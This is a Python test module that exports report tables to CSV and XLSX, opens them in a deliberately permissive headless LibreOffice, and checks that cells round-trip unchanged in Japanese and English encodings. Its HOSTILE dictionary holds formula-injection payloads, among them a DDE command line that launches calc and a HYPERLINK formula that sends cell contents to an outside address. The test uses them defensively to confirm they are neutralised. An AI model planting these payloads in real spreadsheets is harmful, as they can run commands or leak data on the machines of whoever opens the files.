"""Every file of a set in a real LibreOffice, set up as gullible as it can be: it evaluates whatever looks like a
formula, also in quotes. What comes back is what was written, in both languages and encodings."""

import csv
import io
import re
import shutil
import subprocess
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import date, datetime
from itertools import product
from pathlib import Path

import openpyxl
import pytest
from export_set import files_of
from store_builder import fill, line, report

from analysis.export import ExportFile, write
from analysis.export_tables import Style
from analysis.frames import Period
from ingest.files import messages
from ingest.session import ingest_messages
from settings import Limits, Settings
from store import office as customers
from store.engine import open_store, writing

pytestmark = pytest.mark.requires_libreoffice

ROOT = Path(__file__).parent.parent
DAY = 20_000
MONTH = Period(DAY - 29, DAY)
OCTOBER_2026 = Period(20_727, 20_757)
NOW = 20_781 * 86_400
# https://wiki.documentfoundation.org/Documentation/DevGuide/Spreadsheet_Documents: comma, quote, encoding (76 is UTF-8,
# 60 is code page 932), from line 1, English, quoted cells may be anything, special numbers, evaluate formulas.
CSV_FILTER = "CSV:44,34,{encoding},1,,1033,false,true,false,false,false,-1,true"
ENCODINGS = {"utf-8-sig": 76, "cp932": 60}
HOSTILE = {
    "192.0.2.1": '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    "192.0.2.2": "+1+1",
    "192.0.2.3": "-1-1",
    "192.0.2.4": "@SUM(1,1)",
    "192.0.2.5": "\t=1+1",
    "192.0.2.6": "＝1+1",
    "192.0.2.7": "−1",
    "192.0.2.8": "=cmd|' /C calc'!A0",
    "192.0.2.9": 'a","=1+1',
    "192.0.2.10": "花屋 髙﨑①",
    "192.0.2.11": "\u202e=1+1",
    "192.0.2.12": "\r\n=1+1",
}

Cells = list[list[object]]


def sheets(path: Path) -> dict[str, Cells]:
    """The cells of every sheet; a formula is no value."""
    book = openpyxl.load_workbook(path)
    formulas = [
        cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type in ("f", "e")
    ]
    assert formulas == []
    assert [cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink] == []
    return {sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book}


def written(file: ExportFile, encoding: str) -> Cells:
    """The cells of a CSV file by the rules of its README: bare ones are numbers, quoted ones are texts or ISO dates."""
    text = io.StringIO(file.content.decode(encoding), newline="")
    return [[_meant(cell) for cell in row] for row in csv.reader(text, quoting=csv.QUOTE_NONNUMERIC)]


def _meant(cell: str | float) -> object:
    if isinstance(cell, float):
        return cell
    if re.fullmatch(r"\d{4}-\d\d-\d\d", cell):
        return date.fromisoformat(cell)
    return cell or None


def read_back(cells: Cells) -> Cells:
    """Numbers as one kind and times of midnight as dates, as CSV has them."""
    return [[_plain(cell) for cell in row] for row in cells]


def _plain(cell: object) -> object:
    if isinstance(cell, datetime):
        return cell.date()
    return float(cell) if isinstance(cell, int) else cell


@dataclass(frozen=True, slots=True)
class Opened:
    """A set that was exported, and its files as LibreOffice saves them after it has opened and calculated them."""

    files: tuple[ExportFile, ...]
    saved: Mapping[str, Path]

    @property
    def tables(self) -> list[ExportFile]:
        return [file for file in self.files if file.name.endswith(".csv")]

    @property
    def book(self) -> Path:
        (name,) = (file.name for file in self.files if file.name.endswith(".xlsx"))
        return self.saved[name]


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path) -> dict[tuple[str, str, str], Opened]:
    """Every set by what is in it, its language and its encoding. LibreOffice starts once for all of a kind."""
    folder = tmp_path_factory.mktemp("office")
    samples, hostile = (f"sqlite:///{shutil.copy(sqlite_template, folder / name)}" for name in ("samples", "hostile"))
    ingest_samples(samples)
    fill(
        hostile,
        [report("example.jp", DAY, [line(ip, 1000 - number) for number, ip in enumerate(HOSTILE)], org="=1+1")],
        senders=HOSTILE,
    )
    sets = {
        **{("samples", *style): exported(samples, OCTOBER_2026, *style) for style in product(("ja", "en"), ENCODINGS)},
        **{("hostile", *style): exported(hostile, MONTH, *style) for style in product(("ja",), ENCODINGS)},
    }
    written = {key: write(folder / "-".join(key), renamed(key, files)) for key, files in sets.items()}
    for encoding, number in ENCODINGS.items():
        paths = [path for key, all_ in written.items() if key[2] == encoding for path in all_ if path.suffix == ".csv"]
        save_again(folder, paths, f"--infilter={CSV_FILTER.format(encoding=number)}")
    save_again(folder, [path for paths in written.values() for path in paths if path.suffix == ".xlsx"])
    return {key: Opened(files, saved(folder / "opened", key, files)) for key, files in sets.items()}


def ingest_samples(url: str) -> None:
    """The sample history with its customers."""
    ingest_messages(
        Settings(database_url=url, workers=1),
        messages([ROOT / "sample_reports" / "history"], Limits()),
        command="test",
        now=NOW,
        after_commit=lambda outcomes: None,
    )
    named = list(csv.DictReader((ROOT / "sample_reports" / "domains.csv").read_text(encoding="utf-8").splitlines()))
    engine = open_store(url)
    with writing(engine) as connection:
        for row in named:
            customers.add_customer(connection, row["customer"], language="ja", now=NOW)
            customers.assign_domain(connection, row["domain"], row["customer"], now=NOW)
    engine.dispose()


def exported(url: str, period: Period, language: str, encoding: str) -> tuple[ExportFile, ...]:
    return files_of(url, "example.jp", period, Style(language, encoding), now=NOW, xlsx=True)  # type: ignore[arg-type]


def renamed(key: tuple[str, str, str], files: tuple[ExportFile, ...]) -> list[ExportFile]:
    """The files of a set under names that no other set has."""
    return [replace(file, name="-".join((*key, file.name))) for file in files]


def save_again(folder: Path, paths: Sequence[Path], *options: str) -> None:
    command = ["soffice", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", *options]
    command += ["--convert-to", "xlsx", "--outdir", str(folder / "opened")]
    done = subprocess.run([*command, *map(str, paths)], capture_output=True, text=True, check=False, timeout=600)
    assert done.returncode == 0, done.stderr


def saved(folder: Path, key: tuple[str, str, str], files: tuple[ExportFile, ...]) -> dict[str, Path]:
    return {
        file.name: (folder / own.name).with_suffix(".xlsx")
        for file, own in zip(files, renamed(key, files), strict=True)
    }


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("language", ["ja", "en"])
def test_every_file_of_the_samples_comes_back_as_it_was_written(
    opened: dict[tuple[str, str, str], Opened], language: str, encoding: str
) -> None:
    found = opened["samples", language, encoding]

    for file in found.tables:
        (cells,) = sheets(found.saved[file.name]).values()
        assert read_back(cells) == written(file, encoding), file.name
    for cells, file in zip(sheets(found.book).values(), found.tables, strict=True):
        assert read_back(cells) == written(file, encoding), file.name
    daily = written(found.tables[1], encoding)
    assert len(daily) == 32
    assert daily[1][:4] == ["example.jp", date(2026, 10, 1), 51.0, 50.0]
    assert daily[0][:4] == (["ドメイン", "日付 (UTC)", "通数", "合格"] if language == "ja" else
                            ["Domain", "Day (UTC)", "Messages", "Passed"])  # fmt: skip


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_no_name_of_a_stranger_becomes_a_formula_or_a_link(
    opened: dict[tuple[str, str, str], Opened], encoding: str
) -> None:
    found = opened["hostile", "ja", encoding]
    named = [file.name for file in found.tables if file.name.endswith(("senders.csv", "sources.csv"))]

    assert len(named) == 2
    for name in named:
        (cells,) = sheets(found.saved[name]).values()
        assert [row[2] for row in cells[1:]] == list(_guarded(encoding))
        assert len({len(row) for row in cells}) == 1
    _, _, senders, sources, _, _ = sheets(found.book).values()
    for cells in (senders, sources):
        assert [row[2] for row in cells[1:]] == [text.strip("\t\r\n\u202e") for text in HOSTILE.values()]


def _guarded(encoding: str) -> Iterator[str]:
    """The names as a reader of the CSV sees them."""
    for text in HOSTILE.values():
        shown = text.strip("\t\r\n\u202e")
        shown = shown.replace("−", "－") if encoding == "cp932" else shown
        yield shown if shown[0] in "a花" else f"'{shown}"
